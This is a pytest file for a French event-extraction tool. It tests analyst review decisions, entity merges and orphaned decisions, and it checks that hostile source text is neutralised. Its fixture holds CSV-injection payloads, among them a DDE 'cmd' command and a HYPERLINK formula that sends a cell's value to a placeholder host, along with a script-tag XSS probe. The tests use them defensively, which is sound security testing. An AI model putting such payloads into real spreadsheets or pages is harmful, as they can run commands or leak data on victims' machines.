"""Analyst review that sticks: an analyst edits review.csv (accept, reject, edit a date, one invalid
row) and merges two entities; the decisions survive an incremental run and a full run, a decision
whose event disappears is orphaned and kept, and a hostile source text cannot produce a formula cell."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess

import pytest

from .conftest import ROOT, SEED, veille
from .test_flow import read_table

OUTPUT_TABLES = (
    "documents.csv",
    "entities.csv",
    "mentions.csv",
    "events.csv",
    "event_actors.csv",
    "review.csv",
    "events_reviewed.csv",
    "review_orphans.csv",
)


# A source text written to attack the analyst's spreadsheet: every line opens with a formula character.
HOSTILE = """=HYPERLINK("http://exemple.invalid/?x="&A1;"Coopération franco-indienne")
=cmd|' /C calc'!A0 Le 3 mars 2025, la France et l'Inde ont signé à New Delhi un accord de défense.
+33 La Russie a livré des chars T-90 au Mali en janvier 2025.
-2+3 Le Japon et l'Australie ont mené un exercice naval conjoint en mai 2025.
@SUM(1+1) L'Égypte et la Turquie ont signé un accord de coopération militaire.
\tLe Maroc a acheté des drones Bayraktar TB2 à la Turquie en 2024.
<script>document.title = "pwned"</script> La Chine et le Pakistan ont signé un accord de défense le 5 mai 2024.
"""


def read_sheet(path):
    with open(path, encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


def write_sheet(path, rows):
    """As a spreadsheet saves it: the same columns, UTF-8 with BOM."""
    with open(path, "w", encoding="utf-8-sig", newline="") as stream:
        writer = csv.DictWriter(stream, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def find(rows, **fields):
    found = [row for row in rows if all(row[key] == value for key, value in fields.items())]
    assert len(found) == 1, (fields, len(found))
    return found[0]


@pytest.fixture(scope="module")
def review(tmp_path_factory):
    corpus = tmp_path_factory.mktemp("corpus")
    shutil.copy(SEED, corpus / "seed.txt")
    shutil.copy(ROOT / "corpus" / "dev" / "afr-djibouti-bases-etrangeres.txt", corpus / "djibouti.txt")
    (corpus / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
    out = tmp_path_factory.mktemp("out")
    models = tmp_path_factory.mktemp("models") / "models"
    shutil.copytree(ROOT / "models", models)
    options = ("--corpus", str(corpus), "--out", str(out), "--models", str(models))
    results = {"first": veille("run", *options)}
    assert results["first"].returncode == 0, results["first"].stderr[-2000:]

    # The analyst's review, in the sheet the run wrote.
    rows = read_sheet(out / "review.csv")
    exercise = find(rows, type="JOINT_EXERCISE", participants="RUS;TJK")
    exercise.update(decision="accept", reviewer="cl", note="vérifié dans la source")
    meeting = find(rows, type="HIGH_LEVEL_MEETING", participants="KAZ;PAK")
    meeting.update(decision="edit", date_start="2025-04-23", reviewer="cl", note="la visite a commencé la veille")
    rejected = find(rows, type="DEFENSE_AGREEMENT", participants="DJI;FRA")
    rejected.update(decision="reject", reviewer="cl")
    invalid = find(rows, type="TRAINING", participants="DJI;FRA")
    invalid.update(decision="edit", type="ALLIANCE", reviewer="cl")
    write_sheet(out / "review.csv", rows)
    ids = {
        name: row["event_id"]
        for name, row in [("exercise", exercise), ("meeting", meeting), ("rejected", rejected), ("invalid", invalid)]
    }

    # The same decisions imported by command, and an entity merge in models/.
    results["import"] = veille("review", "import", str(out / "review.csv"), "--out", str(out), "--models", str(models))
    with open(models / "gazetteers" / "overrides.tsv", "a", encoding="utf-8") as stream:
        stream.write("merge\tPER-asim-muir\tPER-asim-munir\t\tcoquille de la source\n")
    results["incremental"] = veille("run", *options)
    tables = {"incremental": {name: read_table(out, name) for name in OUTPUT_TABLES}}
    results["full"] = veille("run", *options, "--full")
    tables["full"] = {name: read_table(out, name) for name in OUTPUT_TABLES}

    # The source text changes under a reviewed event.
    text = (corpus / "seed.txt").read_text(encoding="utf-8")
    (corpus / "seed.txt").write_text(text.replace("Kharb-Maidon", "Lyaur"), encoding="utf-8")
    results["changed"] = veille("run", *options)
    tables["changed"] = {name: read_table(out, name) for name in OUTPUT_TABLES}
    for name in ("incremental", "full", "changed"):
        assert results[name].returncode == 0, f"{name}: {results[name].stderr[-2000:]}"
    return ids, results, tables, out


def test_invalid_rows_are_refused_with_their_row_and_reason_and_the_rest_imported(review):
    ids, results, tables, _ = review
    result = results["import"]
    assert result.returncode == 1
    assert "3 decisions imported" in result.stdout
    assert "row " in result.stderr and "unknown event type 'ALLIANCE'" in result.stderr
    sheet = tables["incremental"]["review.csv"].set_index("event_id")
    assert sheet.loc[ids["invalid"], "import_problem"] == "unknown event type 'ALLIANCE'"
    assert sheet.loc[ids["invalid"], "type"] == "ALLIANCE"  # the analyst's entry is not lost


@pytest.mark.parametrize("run", ["incremental", "full"])
def test_every_decision_is_applied_after_an_incremental_and_a_full_run(review, run):
    ids, _, tables, _ = review
    reviewed = tables[run]["events_reviewed.csv"].set_index("event_id")
    events = tables[run]["events.csv"].set_index("event_id")
    assert ids["rejected"] in events.index and ids["rejected"] not in reviewed.index
    assert reviewed.loc[ids["exercise"], "review"] == "accepted"
    assert reviewed.loc[ids["exercise"], "note"] == "vérifié dans la source"
    assert reviewed.loc[ids["meeting"], "review"] == "edited"
    assert reviewed.loc[ids["meeting"], "date_start"] == "2025-04-23"
    assert events.loc[ids["meeting"], "date_start"] == "2025-04-24"  # events.csv stays what was extracted
    assert reviewed.loc[ids["invalid"], "review"] == "unreviewed"
    sheet = tables[run]["review.csv"].set_index("event_id")
    assert sheet.loc[ids["exercise"], "decision"] == "accept"
    assert sheet.loc[ids["meeting"], "decision"] == "edit"


def test_a_merge_applies_everywhere(review):
    _, _, tables, _ = review
    for run in ("incremental", "full"):
        entities = tables[run]["entities.csv"]
        assert "PER-asim-muir" not in set(entities["entity_id"])
        munir = entities.set_index("entity_id").loc["PER-asim-munir"]
        assert "Asim Muir" in munir["aliases"]
        assert "PER-asim-muir" not in set(tables[run]["mentions.csv"]["entity_id"])


def test_a_decision_on_an_event_that_no_longer_exists_is_orphaned_and_kept(review):
    ids, results, tables, _ = review
    orphans = tables["changed"]["review_orphans.csv"].set_index("event_id")
    assert ids["exercise"] in orphans.index
    assert orphans.loc[ids["exercise"], "decision"] == "accept"
    assert "Kharb-Maidon" in orphans.loc[ids["exercise"], "sentence"]
    log = results["changed"].stdout + results["changed"].stderr
    assert "no longer extracted" in log and ids["exercise"] in log
    # the other decisions still apply
    reviewed = tables["changed"]["events_reviewed.csv"].set_index("event_id")
    assert reviewed.loc[ids["meeting"], "date_start"] == "2025-04-23"


def test_a_hostile_source_cannot_produce_a_formula_cell(review):
    """OWASP CSV injection: no cell of any table may start with =, +, -, @, tab or carriage return."""
    _, _, tables, _ = review
    hostile_events = 0
    for name, frame in tables["changed"].items():
        for column in frame.columns:
            for cell in frame[column]:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, column, cell)
        if "sentence" in frame.columns:
            hostile_events += frame["sentence"].str.startswith(("'=", "'+", "'-", "'@")).sum()
    assert hostile_events >= 3  # the hostile lines did reach the tables, neutralised


def test_the_report_draws_in_a_browser_and_keeps_source_text_as_text(review):
    """report.html rendered by headless Chromium (Debian's chromium, installed by .ci/run)."""
    _, _, tables, out = review
    browser = shutil.which("chromium")
    assert browser, "headless Chromium is needed: apt-get install chromium (see README, Tests)"
    result = subprocess.run(
        [
            browser,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--virtual-time-budget=5000",
            "--dump-dom",
            (out / "report.html").as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    dom = result.stdout
    assert re.search(r'<svg id="network"[^>]*data-drawn-nodes="(\d+)"', dom), result.stderr[-1000:]
    nodes = int(re.search(r'data-drawn-nodes="(\d+)"', dom).group(1))
    edges = int(re.search(r'data-drawn-edges="(\d+)"', dom).group(1))
    points = int(re.search(r'data-drawn-points="(\d+)"', dom).group(1))
    reviewed = tables["changed"]["events_reviewed.csv"]
    assert nodes >= 10 and edges >= 10
    assert points == (reviewed["date_start"] != "").sum()
    assert dom.count("<circle") == nodes + points  # the SVG elements are there, not only the counts
    assert "<title>Veille — rapport</title>" in dom  # the article's script did not run
    assert "&lt;script&gt;document.title" in dom  # it is shown as text
    assert "pwned" not in dom.split("<body>")[0]
